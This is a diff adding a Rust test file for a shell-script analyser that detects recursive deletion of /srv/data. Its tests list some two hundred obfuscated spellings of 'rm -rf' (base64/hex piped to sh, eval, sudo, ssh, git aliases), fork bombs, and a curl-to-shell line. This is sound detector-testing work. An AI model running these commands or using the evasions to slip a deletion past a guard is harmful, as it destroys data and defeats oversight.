@@ -1,1 +1,411 @@
 //! What is found in scripts.
+
+use super::super::analyse::{Analysis, analyse};
+use super::super::effect::Effect;
+use super::super::env::Env;
+use super::super::invocation::Argument;
+use super::super::value::Value;
+
+fn analysis(text: &str) -> Analysis {
+    analyse(text, &Env::default())
+}
+
+/// True if a text runs `rm` recursively and without asking on `/srv/data`, or says that it cannot be
+/// told what it runs.
+fn removes(text: &str) -> (bool, bool) {
+    let analysis = analysis(text);
+    let removes = analysis.invocations.iter().any(|invocation| {
+        let is = |argument: &Argument, text: &str| argument.value.as_known() == Some(text);
+        let program = invocation.program.value.as_known().unwrap_or_default();
+        program.rsplit('/').next() == Some("rm")
+            && invocation.arguments.iter().any(|argument| is(argument, "-rf"))
+            && invocation.arguments.iter().any(|argument| is(argument, "/srv/data"))
+    });
+    let unknown = !analysis.problems.is_empty()
+        || analysis
+            .found
+            .iter()
+            .any(|found| matches!(found.effect, Effect::Dynamic { .. } | Effect::Code { .. }));
+    (removes, unknown)
+}
+
+/// Spellings of `rm -rf /srv/data` that are followed exactly.
+const FOLLOWED: &[&str] = &[
+    "rm -rf /srv/data",
+    "r''m -r\"\"f '/srv/data'",
+    "\\r\\m -\\r\\f /s\\rv/da\\ta",
+    "$'\\x72\\x6d' $'-\\162f' $'/srv/data'",
+    "r\\\nm -r\\\nf /srv/\\\ndata",
+    "{rm,-rf,/srv/data}",
+    "/bin/rm -rf /srv/data",
+    "x=rm; $x -rf /srv/data",
+    "x=r y=m; $x$y -rf /srv/data",
+    "a='rm -rf /srv/data'; $a",
+    "a='rm -rf'; b=/srv; $a $b/data",
+    "IFS=,; c=rm,-rf,/srv/data; $c",
+    "rm${IFS}-rf${IFS}/srv/data",
+    "a=(rm -rf /srv/data); \"${a[@]}\"",
+    "a=(rm -rf /srv/data); ${a[*]}",
+    "declare -a a=(rm -rf /srv/data); ${a[0]} ${a[1]} ${a[2]}",
+    "a[0]=rm; a[1]=-rf; a+=(/srv/data); \"${a[@]}\"",
+    "set -- rm -rf /srv/data; \"$@\"",
+    "set -- /srv/data; rm -rf \"$1\"",
+    "x=mr; ${x:1:1}${x:0:1} -rf /srv/data",
+    "x=rmx; ${x%x} -rf /srv/data",
+    "x=xrm; ${x#x} -rf /srv/data",
+    "x=RM; ${x,,} -rf /srv/data",
+    "x=lm; ${x/l/r} -rf /srv/data",
+    "y=rm; x=y; ${!x} -rf /srv/data",
+    "x=; ${x:-rm} -rf /srv/data",
+    "${x:-rm} -rf /srv/data",
+    ": ${x:=rm}; $x -rf /srv/data",
+    "r${x}m -rf /srv/data",
+    "rm $x -rf /srv/data",
+    "r$@m -rf /srv/data",
+    "$X rm -rf /srv/data",
+    "printf -v x rm; $x -rf /srv/data",
+    "read x <<< rm; $x -rf /srv/data",
+    "read a b c <<< 'rm -rf /srv/data'; $a $b $c",
+    "read -r -a a <<< 'rm -rf /srv/data'; \"${a[@]}\"",
+    "while read -r line; do $line; done <<< 'rm -rf /srv/data'",
+    "mapfile -t a <<< 'rm -rf /srv/data'; ${a[0]}",
+    "for x in rm; do $x -rf /srv/data; done",
+    "for x in a b /srv/data; do rm -rf $x; done",
+    "for x; do :; done; for y in rm\\ -rf; do $y /srv/data; done",
+    "if true; then rm -rf /srv/data; fi",
+    "if false; then :; else rm -rf /srv/data; fi",
+    "while :; do rm -rf /srv/data; break; done",
+    "until rm -rf /srv/data; do :; done",
+    "case x in y) ;; *) rm -rf /srv/data;; esac",
+    "case $x in a) y=rm;; *) y=rm;; esac; $y -rf /srv/data",
+    "f() { rm -rf /srv/data; }; f",
+    "f() { rm \"$@\"; }; f -rf /srv/data",
+    "f() { $1 -rf $2; }; f rm /srv/data",
+    "function f { local x=rm; $x -rf /srv/data; }; f",
+    "(rm -rf /srv/data)",
+    "{ rm -rf /srv/data; }",
+    "rm -rf /srv/data &",
+    "true && rm -rf /srv/data",
+    "false || rm -rf /srv/data",
+    "! rm -rf /srv/data",
+    "! ! rm -rf /srv/data",
+    "time rm -rf /srv/data",
+    "ls | rm -rf /srv/data",
+    "coproc rm -rf /srv/data",
+    "echo $(rm -rf /srv/data)",
+    "echo `rm -rf /srv/data`",
+    "echo `echo \\`rm -rf /srv/data\\``",
+    "echo \"${x:-$(rm -rf /srv/data)}\"",
+    "echo $((1 + $(rm -rf /srv/data)))",
+    "echo $((rm -rf /srv/data); (ls))",
+    "cat <(rm -rf /srv/data)",
+    "ls > >(rm -rf /srv/data)",
+    "> $(rm -rf /srv/data)",
+    "[[ -n $(rm -rf /srv/data) ]]",
+    "x='a[$(rm -rf /srv/data)]'; echo $((x))",
+    "x='$(rm -rf /srv/data)'; echo ${x@P}",
+    "PS4='$(rm -rf /srv/data)'; set -x; ls",
+    "cat <<E\n$(rm -rf /srv/data)\nE",
+    "cat <<'A' <<B\nx\nA\n$(rm -rf /srv/data)\nB",
+    "eval rm -rf /srv/data",
+    "eval 'r''m -rf /srv/data'",
+    "eval eval eval rm -rf /srv/data",
+    "trap 'rm -rf /srv/data' EXIT",
+    "exec rm -rf /srv/data",
+    "command rm -rf /srv/data",
+    "builtin command rm -rf /srv/data",
+    "alias x='rm -rf'; x /srv/data",
+    "hash -p /bin/rm x; x -rf /srv/data",
+    ". /dev/stdin <<< 'rm -rf /srv/data'",
+    "source <(echo rm -rf /srv/data)",
+    "$(echo rm) -rf /srv/data",
+    "`echo rm` -rf /srv/data",
+    "$(printf '\\x72m') -rf /srv/data",
+    "$(echo -e '\\x72m') -rf /srv/data",
+    "$(echo mr | rev) -rf /srv/data",
+    "$(echo EZ | tr EZ rm) -rf /srv/data",
+    "$(which rm) -rf /srv/data",
+    "$(command -v rm) -rf /srv/data",
+    "$(basename /bin/rm) -rf /srv/data",
+    "$(if true; then echo rm; fi) -rf /srv/data",
+    "$(cat <<< rm) -rf /srv/data",
+    "sh -c 'rm -rf /srv/data'",
+    "bash -lc \"rm -rf /srv/data\"",
+    "sh -c '$0 -rf $1' rm /srv/data",
+    "sh -c '\"$@\"' x rm -rf /srv/data",
+    "bash -c 'bash -c \"rm -rf /srv/data\"'",
+    "bash +x -c 'rm -rf /srv/data'",
+    "bash -o pipefail -c 'rm -rf /srv/data'",
+    "$0 -c 'rm -rf /srv/data'",
+    "$SHELL -c 'rm -rf /srv/data'",
+    "echo rm -rf /srv/data | sh",
+    "printf 'rm -rf %s' /srv/data | bash -s",
+    "sh <<< 'rm -rf /srv/data'",
+    "sh <<E\nrm -rf /srv/data\nE",
+    "sh <<'E'\nrm -rf /srv/data\nE",
+    "bash <(echo rm -rf /srv/data)",
+    "echo cm0gLXJmIC9zcnYvZGF0YQ== | base64 -d | sh",
+    "echo cm0gLXJmIC9zcnYvZGF0YQo | base64 --decode | bash",
+    "base64 -d <<< cm0gLXJmIC9zcnYvZGF0YQ== | sh",
+    "echo 726d202d7266202f7372762f64617461 | xxd -r -p | sh",
+    "echo 'atad/vrs/ fr- mr' | rev | sh",
+    "echo 'sn -sg /tsw/ebub' | tr a-z b-za | tr a-z z-a | cat - >/dev/null; rm -rf /srv/data",
+    "echo 'Xm -rf /srv/data' | sed 's/X/r/' | sh",
+    "eval \"$(echo cm0gLXJmIC9zcnYvZGF0YQ== | base64 -d)\"",
+    "env echo rm -rf /srv/data | env sh",
+    "echo 'rm -rf /srv/data' > /tmp/x; sh /tmp/x",
+    "echo 'rm -rf /srv/data' > /tmp/x; . /tmp/x",
+    "cat > x.sh <<E\nrm -rf /srv/data\nE\nchmod +x x.sh; ./x.sh",
+    "echo 'rm -rf $1' > /tmp/x; bash /tmp/x /srv/data",
+    "echo rm -rf /srv/data >> x; echo ls >> x; sh < x",
+    "sudo rm -rf /srv/data",
+    "sudo -u root -- rm -rf /srv/data",
+    "sudo A=b rm -rf /srv/data",
+    "doas rm -rf /srv/data",
+    "su -c 'rm -rf /srv/data'",
+    "su - root -c 'rm -rf /srv/data'",
+    "env rm -rf /srv/data",
+    "env -i A=b rm -rf /srv/data",
+    "env -S 'rm -rf /srv/data'",
+    "env -S'rm -rf' /srv/data",
+    "env --split-string='rm -rf' /srv/data",
+    "nohup rm -rf /srv/data &",
+    "nice -n 19 rm -rf /srv/data",
+    "nice -19 rm -rf /srv/data",
+    "timeout 5 rm -rf /srv/data",
+    "timeout --signal=KILL -k 1 5s rm -rf /srv/data",
+    "setsid -f rm -rf /srv/data",
+    "stdbuf -oL rm -rf /srv/data",
+    "ionice -c 3 rm -rf /srv/data",
+    "taskset 1 rm -rf /srv/data",
+    "chrt -b 0 rm -rf /srv/data",
+    "flock /tmp/l rm -rf /srv/data",
+    "flock /tmp/l -c 'rm -rf /srv/data'",
+    "strace -f -o /dev/null rm -rf /srv/data",
+    "unshare -r rm -rf /srv/data",
+    "nsenter -t 1 -m rm -rf /srv/data",
+    "chroot / rm -rf /srv/data",
+    "systemd-run --user rm -rf /srv/data",
+    "/lib64/ld-linux-x86-64.so.2 /bin/rm -rf /srv/data",
+    "/proc/self/root/bin/rm -rf /srv/data",
+    "busybox rm -rf /srv/data",
+    "busybox sh -c 'rm -rf /srv/data'",
+    "script -qc 'rm -rf /srv/data' /dev/null",
+    "watch -n 1 rm -rf /srv/data",
+    "watch -x rm -rf /srv/data",
+    "xargs rm -rf <<< /srv/data",
+    "echo /srv/data | xargs rm -rf",
+    "echo /srv/data | xargs -I{} rm -rf {}",
+    "echo rm -rf /srv/data | xargs env",
+    "printf '/srv/data\\0' | xargs -0 rm -rf",
+    "echo 'rm -rf /srv/data' | xargs -I% sh -c %",
+    "find . -maxdepth 0 -exec rm -rf /srv/data ';'",
+    "find . -exec sh -c 'rm -rf /srv/data' {} +",
+    "parallel rm -rf ::: /srv/data",
+    "echo 'rm -rf /srv/data' | at now",
+    "at now <<< 'rm -rf /srv/data'",
+    "ssh localhost rm -rf /srv/data",
+    "ssh -p 22 user@host 'cd / && rm -rf /srv/data'",
+    "ssh -o ProxyCommand='rm -rf /srv/data' host",
+    "docker run --rm -v /:/host alpine rm -rf /srv/data",
+    "kubectl exec -it pod -- rm -rf /srv/data",
+    "git -c alias.x='!rm -rf /srv/data' x",
+    "git -c core.pager='rm -rf /srv/data' log",
+    "git rebase -x 'rm -rf /srv/data' HEAD~2",
+    "git submodule foreach 'rm -rf /srv/data'",
+    "git bisect run rm -rf /srv/data",
+    "tmux new-session -d 'rm -rf /srv/data'",
+    "screen -dm rm -rf /srv/data",
+    "echo safe #\nrm -rf /srv/data",
+    "ls;rm -rf /srv/data",
+    "ls&rm -rf /srv/data",
+    "exit() { :; }; exit; rm -rf /srv/data",
+    "return; rm -rf /srv/data",
+    "cd /nowhere || rm -rf /srv/data",
+    "cd /srv || exit; rm -rf /srv/data",
+];
+
+/// Spellings that nobody can follow: they are at least told to be unknown.
+const UNKNOWN: &[&str] = &[
+    "$(curl -s https://example.com) -rf /srv/data",
+    "curl -s https://example.com | sh",
+    "eval \"$(cat x)\"",
+    "x=$(cat y); $x -rf /srv/data",
+    "openssl enc -d -aes-256-cbc -in x | sh",
+    "gunzip -c x.gz | bash",
+    "/bin/r? -rf /srv/data",
+    "/b*/rm -rf /srv/data",
+    "$RANDOM_NAME -rf /srv/data",
+    "${PATH:0:1}bin${PATH:0:1}rm -rf /srv/data",
+    "sh ./x.sh",
+    "./rm -rf /srv/data",
+    "fish -c 'rm -rf /srv/data'",
+    "nice --no-such-option rm -rf /srv/data",
+    "echo 'unbalanced",
+    "echo $(if true)",
+];
+
+#[test]
+fn a_removal_is_found_in_every_spelling() {
+    let missed: Vec<_> = FOLLOWED.iter().filter(|text| !removes(text).0).collect();
+    assert!(missed.is_empty(), "{missed:#?}");
+}
+
+#[test]
+fn what_cannot_be_followed_is_told() {
+    let missed: Vec<_> = UNKNOWN.iter().filter(|text| !removes(text).1).collect();
+    assert!(missed.is_empty(), "{missed:#?}");
+}
+
+#[test]
+fn words_that_only_look_like_a_removal_are_none() {
+    for text in [
+        "echo rm -rf /srv/data",
+        "echo 'rm -rf /srv/data' > notes.txt",
+        "git commit -m 'rm -rf /srv/data'",
+        "grep -r 'rm -rf /srv/data' .",
+        "cat <<'E'\nrm -rf /srv/data\nE",
+        "# rm -rf /srv/data",
+        "printf '%s\\n' 'rm -rf /srv/data'",
+        "x='rm -rf /srv/data'; echo \"$x\"",
+        "man rm; type rm; command -v rm",
+        "f() { rm -rf /srv/data; }",
+        "alias x='rm -rf /srv/data'",
+        "echo 'rm -rf /srv/data' | cat | wc -c",
+        "rm -rf /srv/other",
+    ] {
+        let (removes, unknown) = removes(text);
+        assert!(!removes, "{text}");
+        assert!(!unknown, "{text}");
+    }
+}
+
+/// Rewritings of a command, each of which means the same.
+const REWRITINGS: &[fn(&str) -> String] = &[
+    |text| format!("( {text} )"),
+    |text| format!("{{ {text}\n}}"),
+    |text| format!("eval {}", quoted(text)),
+    |text| format!("sh -c {}", quoted(text)),
+    |text| format!("bash -c {} x y", quoted(text)),
+    |text| format!("sudo sh -c {}", quoted(text)),
+    |text| format!("env -i A=b sh -c {}", quoted(text)),
+    |text| format!("timeout 9 bash -ec {}", quoted(text)),
+    |text| format!("sh <<< {}", quoted(text)),
+    |text| format!("sh <<'END_OF_IT'\n{text}\nEND_OF_IT"),
+    |text| format!("printf %s {} | sh", quoted(text)),
+    |text| format!("printf %s {} | base64 -d | sh", data_encoding::BASE64.encode(text.as_bytes())),
+    |text| {
+        format!(
+            "eval \"$(printf %s {} | xxd -r -p)\"",
+            data_encoding::HEXLOWER.encode(text.as_bytes())
+        )
+    },
+    |text| format!("f() {{\n{text}\n}}; f"),
+    |text| format!("x={}; eval \"$x\"", quoted(text)),
+    |text| format!("if true; then\n{text}\nfi"),
+    |text| format!("for i in 1; do\n{text}\ndone"),
+    |text| format!("while :; do\n{text}\nbreak; done"),
+    |text| format!("case a in *)\n{text}\n;; esac"),
+    |text| format!("true && {{ {text}\n}}"),
+    |text| format!("false || {{ {text}\n}}"),
+    |text| format!("echo \"$({text}\n)\""),
+    |text| format!("cat <({text}\n)"),
+    |text| format!("{{ {text}\n}} > /dev/null 2>&1"),
+    |text| format!("trap {} EXIT", quoted(text)),
+    |text| format!("echo {} > /tmp/x; bash /tmp/x", quoted(text)),
+    |text| format!("find . -exec sh -c {} ';'", quoted(text)),
+    |text| format!("ls # {}\n{text}", "x"),
+    |text| format!("cd /tmp; {text}"),
+    |text| format!("{text} &"),
+];
+
+fn quoted(text: &str) -> String {
+    format!("'{}'", text.replace('\'', "'\\''"))
+}
+
+#[test]
+fn rewriting_a_removal_once_or_twice_never_hides_it() {
+    let mut hidden = Vec::new();
+    for base in ["rm -rf /srv/data", "x=rm; $x -rf /srv/data", "echo /srv/data | xargs rm -rf"] {
+        for first in REWRITINGS {
+            let once = first(base);
+            if removes(&once) == (false, false) {
+                hidden.push(once.clone());
+            }
+            for second in REWRITINGS {
+                let twice = second(&once);
+                if removes(&twice) == (false, false) {
+                    hidden.push(twice);
+                }
+            }
+        }
+    }
+    assert!(
+        hidden.is_empty(),
+        "{} hidden, such as {:#?}",
+        hidden.len(),
+        &hidden[..hidden.len().min(5)]
+    );
+}
+
+#[test]
+fn fork_bombs_are_found_and_recursion_alone_is_none() {
+    let bombs = |text: &str| analysis(text).found.iter().any(|found| found.effect == Effect::Bomb);
+    for text in [
+        ":(){ :|:& };:",
+        ":(){ :|:& }\n:",
+        "bomb() { bomb | bomb & }; bomb",
+        "f() { f & f & }; f",
+        "function f { (f & f); }; f",
+        "f() { if true; then f | f & fi; }; f",
+        "f(){ f& };f",
+    ] {
+        assert!(bombs(text), "{text}");
+    }
+    for text in [
+        "f() { [ $1 -gt 0 ] && f $(($1 - 1)); }; f 3",
+        "walk() { for x in *; do [ -d $x ] && walk $x; done; }; walk",
+        "f() { g | cat; }; g() { ls; }; f",
+    ] {
+        assert!(!bombs(text), "{text}");
+    }
+}
+
+#[test]
+fn the_working_folder_is_followed() {
+    for (text, cwds) in [
+        ("cd /srv && ls", &["/srv"][..]),
+        ("cd /srv; ls", &["/srv", "/workspace"]),
+        ("cd /srv || exit 1; ls", &["/srv"]),
+        ("cd src/../lib && ls", &["/workspace/lib"]),
+        ("(cd /srv && true); ls", &["/workspace"]),
+        ("cd && ls", &["/home/user"]),
+        ("cd ~/x && cd - && ls", &["/workspace"]),
+        ("pushd /srv && popd && ls", &["/workspace"]),
+        ("env -C /srv ls", &["/srv"]),
+        ("cd /srv && sh -c ls", &["/srv"]),
+    ] {
+        let analysis = analysis(text);
+        let last = &analysis.invocations.iter().rfind(|it| it.program.value == Value::known("ls"));
+        let cwd = last.and_then(|invocation| invocation.cwd.possible()).unwrap_or_default();
+        assert_eq!(cwd, cwds, "{text}");
+    }
+}
+
+#[test]
+fn limits_are_told_and_never_hide_what_came_before() {
+    let many = "ls x;".repeat(5_000);
+    let analysis = analysis(&format!("rm -rf /srv/data; {many}"));
+    assert!(!analysis.problems.is_empty());
+    assert_eq!(analysis.invocations[0].program.value, Value::known("rm"));
+    for text in [
+        (0..300).map(|at| format!("ls {at}; ")).collect::<String>(),
+        "f() { g; }; g() { h; }; h() { i; }; i() { f; }; f".repeat(2),
+        "x=1; while true; do x=$x$x; done".to_owned(),
+        format!("{}ls{}", "eval '".repeat(1), "'".repeat(1)),
+        "{".repeat(60) + &",a}".repeat(60),
+        "{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}".to_owned(),
+    ] {
+        let _ = analyse(&text, &Env::default());
+    }
+}
